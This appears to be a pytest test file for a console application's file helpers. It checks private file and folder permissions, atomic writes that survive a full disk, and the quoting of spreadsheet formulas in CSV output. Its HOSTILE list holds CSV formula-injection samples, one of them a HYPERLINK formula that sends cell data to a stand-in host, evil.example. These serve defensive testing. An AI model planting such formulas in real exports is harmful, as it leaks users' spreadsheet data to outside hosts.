"""Files the console writes are private, whole, and cannot carry a spreadsheet formula."""

from __future__ import annotations

import csv
import errno
import os
import stat
from decimal import Decimal
from pathlib import Path

import pytest

from console.core.files import (
    atomic,
    atomic_path,
    create_private_file,
    csv_text,
    neutralise,
    private_folder,
    tighten,
    write_bytes,
    write_csv_rows,
    write_text,
)

posix_only = pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX-only")

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"help")', "+1", "-2+3", "@SUM(A1:A9)",
           "\t=1", "\r=1"]  # fmt: skip


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def open_umask() -> object:
    """A permissive umask, as on many desktops, so modes prove the code sets them."""
    old = os.umask(0o022)
    yield
    os.umask(old)


@posix_only
def test_private_folder_creates_every_missing_level_0700(
    tmp_path: Path, open_umask: object
) -> None:
    folder = private_folder(tmp_path / "a" / "b" / "c")
    assert folder.is_dir()
    for level in (tmp_path / "a", tmp_path / "a" / "b", folder):
        assert mode(level) == 0o700, level


@posix_only
def test_own_folder_is_tightened_but_a_chosen_parent_is_not(tmp_path: Path) -> None:
    tmp_path.chmod(0o755)
    own = tmp_path / "data"
    own.mkdir(mode=0o755)
    own.chmod(0o755)
    private_folder(own)
    assert mode(own) == 0o700
    private_folder(tmp_path, own=False)
    assert mode(tmp_path) == 0o755


@posix_only
def test_tighten_says_what_it_changed(tmp_path: Path) -> None:
    loose = tmp_path / "console.db"
    loose.write_text("x")
    loose.chmod(0o644)
    assert tighten(loose) == f"{loose} 0644 -> 0600"
    assert mode(loose) == 0o600
    assert tighten(loose) is None
    assert tighten(tmp_path / "missing") is None


@posix_only
def test_create_private_file_is_0600_and_leaves_an_existing_file(
    tmp_path: Path, open_umask: object
) -> None:
    path = tmp_path / "new"
    assert create_private_file(path)
    assert mode(path) == 0o600
    path.write_text("kept")
    assert not create_private_file(path)
    assert path.read_text() == "kept"


@posix_only
def test_atomic_write_is_0600_and_replaces_whole(tmp_path: Path, open_umask: object) -> None:
    target = tmp_path / "out.json"
    write_text(target, "first")
    assert mode(target) == 0o600
    write_bytes(target, b"second")
    assert target.read_bytes() == b"second"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.json"]


def test_failing_write_leaves_no_file_and_no_temporary(tmp_path: Path) -> None:
    target = tmp_path / "report.csv"
    with pytest.raises(OSError), atomic_path(target) as temporary:
        temporary.write_text("half a rep")
        raise OSError(errno.ENOSPC, "No space left on device")
    assert list(tmp_path.iterdir()) == []


def test_failing_write_leaves_the_previous_version_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "bill.json"
    target.write_text("previous bill")

    def full_disk(descriptor: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    # A full disk often shows only when the data is flushed to it.
    monkeypatch.setattr(atomic.os, "fsync", full_disk)
    with pytest.raises(OSError, match="No space"):
        write_text(target, "new bill" * 1000)
    monkeypatch.undo()
    assert target.read_text() == "previous bill"
    assert [p.name for p in tmp_path.iterdir()] == ["bill.json"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_quoted(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [0, -2, 3.5, -0.25, Decimal("-12.50"), None])
def test_numbers_stay_numbers(value: object) -> None:
    assert neutralise(value) is value


@pytest.mark.parametrize("text", ["Zhang Wei", "G15 km 1203", "2026-12-03", "a=b", "", "中文"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert neutralise(text) == text


@posix_only
def test_csv_file_is_neutralised_private_and_readable_back(
    tmp_path: Path, open_umask: object
) -> None:
    path = tmp_path / "table.csv"
    write_csv_rows(path, [["note", "amount"], *[[text, -3] for text in HOSTILE]])
    assert mode(path) == 0o600
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["note", "amount"]
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert {row[1] for row in rows[1:]} == {"-3"}
    assert csv_text([["=1"]]) == "'=1\r\n"
